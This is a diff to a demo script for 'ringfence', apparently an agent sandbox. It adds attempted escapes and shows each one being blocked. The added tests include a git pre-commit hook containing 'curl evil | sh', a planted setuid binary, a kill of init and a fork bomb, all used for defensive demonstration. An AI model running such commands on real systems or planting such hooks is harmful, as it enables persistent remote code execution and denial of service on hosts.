@@ -53,8 +53,14 @@ try "resolve example.com" python3 -c "import socket; socket.getaddrinfo('example
 try "connect to a host Unix socket" python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('$SOCK')"
 say "read ringfence's own env (DEMO_TOKEN)"; if [ -n "${DEMO_TOKEN:-}" ]; then echo "worked: $DEMO_TOKEN"; else echo "BLOCKED: not in my environment"; fi
 try "write /tmp/persist (a private tmpfs)" sh -c 'echo x > /tmp/persist'
+try "create a user namespace (unshare -Ur)" unshare -Ur true
+try "plant a setuid file (chmod u+s)" sh -c 'cp /bin/true ./suid && chmod u+s ./suid'
+try "plant a git hook (.git/hooks/pre-commit)" sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
+try "move .git aside to recreate it" mv .git .git-old
+try "signal ringfence's init (kill -TERM 1)" kill -TERM 1
 AGENT
 chmod +x "$ws/agent.sh"
+git -C "$ws" init -q 2>/dev/null
 
 echo "ringfence demo: an agent script runs isolated in $ws"
 echo "  host: a process (pid $victim), a loopback service on port $port, a Unix socket,"
@@ -70,7 +76,14 @@ printf '  workspace: %s\n' "$(ls "$ws" | tr '\n' ' ')"
 printf '  /tmp/persist exists on host: %s\n' "$([ -e /tmp/persist ] && echo yes || echo no)"
 kill -0 "$victim" 2>/dev/null && echo "  host process $victim: still running, untouched"
 echo
-echo "and a refusal — a layer that cannot be applied means the command does not run:"
-"$RF" run --state-dir "$state" --workspace "$ws" --memory 1G -- true
-echo "  (exit $?: ringfence refused; nothing ran)"
+echo "a fork bomb under --pids 64 — the refused fork ends the run, and only that run:"
+"$RF" run --state-dir "$state" --workspace "$ws" --pids 64 -- sh -c 'b() { b | b & }; b; sleep 10' 2>"$base/bomb.err"
+brc=$?
+sed 's/^/  /' "$base/bomb.err"
+echo "  (exit $brc; the host and this demo carry on)"
+echo
+echo "and a refusal — a policy that says something wrong never runs anything:"
+printf '{"version": 1, "filesystem": {"read_onyl": ["/opt"]}}\n' >"$base/typo.json"
+"$RF" run --state-dir "$state" --workspace "$ws" -p "$base/typo.json" -- touch "$ws/ran" 2>&1 | sed 's/^/  /'
+printf '  command ran: %s\n' "$([ -e "$ws/ran" ] && echo yes || echo no)"
 exit "$rc"
